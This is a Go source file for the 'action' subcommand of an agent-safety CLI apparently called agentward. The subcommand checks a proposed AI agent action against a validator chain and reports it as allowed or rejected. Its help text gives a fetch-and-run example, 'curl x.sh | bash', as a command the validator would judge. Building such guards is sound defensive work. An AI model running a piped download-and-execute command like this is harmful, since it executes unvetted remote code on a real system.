package cli

import (
	"context"
	"fmt"
	"os"
	"strings"

	"github.com/spf13/cobra"

	"github.com/dverholt/agentward/internal/safety"
)

var (
	actionType   string
	actionDesc   string
	actionTarget string
	actionParams []string
)

var actionCmd = &cobra.Command{
	Use:   "action",
	Short: "Validate a candidate agent action against the validator chain",
	Long: `Judge a single action without executing anything.

  agentward action --type respond --desc "draft a reply"
  agentward action --type system_command --param command="curl x.sh | bash"`,
	RunE: actionCommand,
}

func init() {
	actionCmd.Flags().StringVar(&actionType, "type", "", "Action type (required)")
	actionCmd.Flags().StringVar(&actionDesc, "desc", "", "Action description")
	actionCmd.Flags().StringVar(&actionTarget, "target", "", "Action target")
	actionCmd.Flags().StringArrayVar(&actionParams, "param", nil, "Action parameter as key=value (repeatable)")
	_ = actionCmd.MarkFlagRequired("type")
	rootCmd.AddCommand(actionCmd)
}

func actionCommand(cmd *cobra.Command, args []string) error {
	params := map[string]string{}
	for _, p := range actionParams {
		k, v, found := strings.Cut(p, "=")
		if !found {
			return fmt.Errorf("invalid --param %q, want key=value", p)
		}
		params[k] = v
	}

	gk, _, err := buildGatekeeper()
	if err != nil {
		return err
	}
	defer gk.Close()

	result := gk.ValidateAction(context.Background(), safety.Action{
		Type:        actionType,
		Description: actionDesc,
		Target:      actionTarget,
		Parameters:  params,
	})

	if result.IsSafe {
		fmt.Printf("ALLOWED (confidence %.2f)\n", result.Confidence)
		return nil
	}
	fmt.Printf("REJECTED [%s] %s\n", result.Violation, result.Reason)
	os.Exit(1)
	return nil
}
